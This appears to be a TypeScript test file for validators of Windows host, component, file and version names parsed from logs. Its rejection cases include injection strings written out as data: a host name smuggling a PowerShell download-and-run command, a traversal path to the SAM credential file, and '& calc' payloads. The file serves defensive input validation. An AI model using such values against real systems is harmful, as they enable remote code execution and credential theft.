// Naming rules: every real host, component, family and file name of the fixtures passes; shell and path tricks do not.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { componentProblem, hostnameProblem, isArchitecture, isComponentVersion, windowsFileProblem, windowsNameProblem } from './windows-names';

test('host names: NetBIOS and DNS names, FQDNs and legacy underscores pass', () => {
  for (const name of ['BANK-WS-0101', 'ws0102', 'PC_LEGACY_01', 'ws-0102.corp.bank.example', '10.0.0.5', 'A', `${'a'.repeat(63)}.${'b'.repeat(63)}`]) {
    assert.equal(hostnameProblem(name), null, name);
  }
});

test('host names: quotes, operators, spaces, paths, non-ASCII, empty or over-long labels are refused', () => {
  for (const name of [
    'WS-0102" & powershell -nop -c "iwr http://x/p.ps1|iex" & rem "',
    'WS 0102',
    'WS-0102\r\nrem',
    'WS%PATH%',
    '\\\\?\\C:',
    '-WS',
    'ws..corp',
    'ws.',
    'ｗｓ',
    'wş-01',
    '',
    'a'.repeat(64),
    `${'a'.repeat(63)}.`.repeat(4) + 'a',
  ]) {
    assert.notEqual(hostnameProblem(name), null, JSON.stringify(name));
  }
});

test('component keys, package and identity strings of every log generation pass', () => {
  for (const value of [
    'amd64_dual_wpdmtp.inf_31bf3856ad364e35_10.0.19041.746_none_8478465c1c781ea5',
    'amd64_microsoft-windows-a..modernappmanagement_31bf3856ad364e35_10.0.19041.3636_none_23b3b3ece690d77b',
    'msil_system.windows.forms.resources_b77a5c561934e089_6.1.7600.16385_pl-pl_ab5ad87ef86e3175',
    'Microsoft-OneCore-Connectivity-Bluetooth-WOW64-Package~31bf3856ad364e35~amd64~de-@E~10.0.14393.0',
    'dual_wpdmtp.inf, version 10.0.19041.4355, arch amd64, nonSxS, pkt {l:8 b:31bf3856ad364e35}',
    'dual_wpdmtp.inf, version 10.0.19041.4355, ab:31bf3856ad364e35]',
    'Microsoft-Windows-Shell-Wallpaper-Common, Version = 6.0.5720.0, pA = PROCESSOR_ARCHITECTURE_INTEL (0), Culture neutral, VersionScope = 1 nonSxS, PublicKeyToken = {l:8 b:31bf3856ad364e35}, Type neutral, TypeName neutral, PublicKey neutral',
  ]) {
    assert.equal(componentProblem(value), null, value);
  }
  for (const value of ['a"b', 'a&b', 'x\\..\\y', 'a\nb', 'a%b%', 'a!b', 'a$b', 'a`b', 'a/b', 'a*', 'a?b', 'a\u201cb']) {
    assert.notEqual(componentProblem(value), null, JSON.stringify(value));
  }
});

test('families and file names: real names and paths inside the component folder pass; traversal and shell characters do not', () => {
  for (const family of ['dual_wpdmtp.inf', 'microsoft-windows-b..re-bootmanager-pcat', 'Package_2_for_KB2079403', 'component-store', '0bed6e3a2f47889e3ad31586d102ad4d']) {
    assert.equal(windowsNameProblem(family), null, family);
  }
  for (const file of [
    'WpdMtpUS.dll',
    'bootmgr',
    'r\\WMIC.exe',
    'Core\\FileExplorerExtensions\\Assets\\images\\contrast-standard\\theme-light\\windows.unpinfromhome.svg',
    'Package_2_for_KB2079403~31bf3856ad364e35~amd64~~6.1.1.0.mum',
    'System.Windows.Forms.resources.dll',
  ]) {
    assert.equal(windowsFileProblem(file), null, file);
  }
  for (const file of ['..\\..\\System32\\config\\SAM', '\\\\?\\C:\\x', 'C:\\x.dll', '\\x.dll', 'a\\\\b', 'a\\', 'x" & calc', 'a|b', 'a\tb', 'a:b', 'a/b', 'a'.repeat(256)]) {
    assert.notEqual(windowsFileProblem(file), null, JSON.stringify(file));
  }
  assert.notEqual(windowsNameProblem('r\\WMIC.exe'), null, 'a family is one name, not a path');
});

test('versions are dotted numbers, architectures single words', () => {
  assert.ok(isComponentVersion('10.0.19041.746') && isComponentVersion('6.1.1.0'));
  assert.ok(!isComponentVersion('10.0.19041.746" & calc') && !isComponentVersion('1.2.3.4.5') && !isComponentVersion(''));
  assert.ok(isArchitecture('amd64') && isArchitecture('wow64'));
  assert.ok(!isArchitecture('amd64 & calc') && !isArchitecture(''));
});
